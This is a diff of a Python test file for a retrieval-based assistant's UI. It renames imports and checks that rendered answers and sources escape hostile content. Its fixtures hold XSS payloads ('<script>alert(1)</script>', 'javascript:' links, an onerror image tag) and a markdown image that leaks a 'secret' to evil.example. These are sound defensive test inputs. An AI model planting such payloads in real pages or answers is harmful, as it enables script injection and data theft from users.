@@ -10,10 +10,10 @@ from pathlib import Path
 import pytest
 
 from assistant import Assistant, AssistantError, ConfigError, Document, UploadError
-from assistant.types import Answer, Citation, Passage, Sentence
-from assistant.ui import build_app, sources_html
-from assistant.ui_corpus import delete_document, ingest_uploads, safe_name, store_upload
-from assistant.ui_render import answer_html, answer_markdown
+from assistant.domain import Answer, Citation, Passage, Sentence
+from assistant.ui.app import build_app, sources_html
+from assistant.ui.corpus import delete_document, ingest_uploads, safe_name, store_upload
+from assistant.ui.render import answer_html, answer_markdown
 
 TEXT = "First <b>bold</b> sentence. The cited <script>alert(1)</script> one."
 
@@ -26,7 +26,7 @@ def free_port() -> int:
 
 def _answer(url: str = "javascript:alert(1)") -> tuple[Answer, Citation]:
     p = Passage(chunk_id="d:100-170", doc_id="d", text=TEXT, char_start=100, char_end=100 + len(TEXT), score=0.8,
-                metadata={"title": "T <i>", "source": "S", "date": "2020-01-01", "url": url})
+                title="T <i>", source="S", date="2020-01-01", url=url)
     start = 100 + TEXT.index("The cited")
     c = Citation(number=1, doc_id="d", chunk_id=p.chunk_id, char_start=start, char_end=100 + len(TEXT),
                  quote=TEXT[start - 100:], title="T <i>", source="S", date="2020-01-01", url=url)
@@ -145,7 +145,7 @@ def test_chat_streams_an_answer_with_sources(seeded_copy: Path) -> None:
 
 
 def test_chat_history_reaches_the_model_as_plain_text() -> None:
-    from assistant.ui import _plain
+    from assistant.ui.app import _plain
 
     ans, _ = _answer()
     assert _plain(answer_html(ans)) == "x <img src=x onerror=alert(1)> [1]"
@@ -168,7 +168,7 @@ def test_a_second_upload_with_the_same_name_never_replaces_the_first(tmp_path: P
 
 def test_markdown_in_article_or_model_text_cannot_make_links_or_images() -> None:
     text = "See ![x](https://evil.example/?q=secret) and [click](javascript:alert(1))."
-    p = Passage(chunk_id="d:0-10", doc_id="d", text=text, char_start=0, char_end=len(text), score=0.9, metadata={})
+    p = Passage(chunk_id="d:0-10", doc_id="d", text=text, char_start=0, char_end=len(text), score=0.9)
     c = Citation(number=1, doc_id="d", chunk_id=p.chunk_id, char_start=0, char_end=len(text), quote=text, title="T")
     ans = Answer(question="q", text=text, refused=False, sentences=(Sentence(text, (c,)),), passages=(p,))
     for out in (answer_html(ans), sources_html(ans)):
